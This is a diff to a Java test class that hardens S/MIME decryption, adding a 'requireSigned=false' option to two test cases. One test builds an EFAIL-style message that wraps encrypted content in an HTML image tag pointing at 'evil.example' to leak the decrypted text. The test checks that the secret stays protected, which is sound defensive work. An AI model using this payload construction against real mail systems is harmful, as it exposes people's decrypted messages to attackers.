@@ -117,7 +117,7 @@ class DecryptionHardeningTest extends SmimeTestSupport {
         Exchange reported = send(UNWRAP + "&reportOnly=true", wire);
         assertThat(bodyOf(reported)).isEqualTo(wire).doesNotContain(SECRET);
 
-        Exchange allowed = send(UNWRAP + "&allowUnauthenticatedEncryption=true", wire);
+        Exchange allowed = send(UNWRAP + "&allowUnauthenticatedEncryption=true&requireSigned=false", wire);
         assertThat(allowed.getMessage().getHeader(SmimeConstants.SIGNED, Boolean.class)).isFalse();
         assertThat(bodyOf(allowed)).contains(SECRET);
     }
@@ -184,7 +184,7 @@ class DecryptionHardeningTest extends SmimeTestSupport {
         String efail = headers("eve@evil.example") + multipart("alternative",
                 text("<img src=\"http://evil.example/?"), encryptedEntity, text("\">"));
 
-        Exchange unwrapped = send(UNWRAP, efail);
+        Exchange unwrapped = send(UNWRAP + "&requireSigned=false", efail);
         assertThat(unwrapped.getMessage().getHeader(SmimeConstants.ENCRYPTED, Boolean.class)).isFalse();
         assertThat(unwrapped.getMessage().getHeader(SmimeConstants.ENCRYPTED_PARTS)).isEqualTo("2");
         assertThat(bodyOf(unwrapped)).isEqualTo(efail).doesNotContain(SECRET);
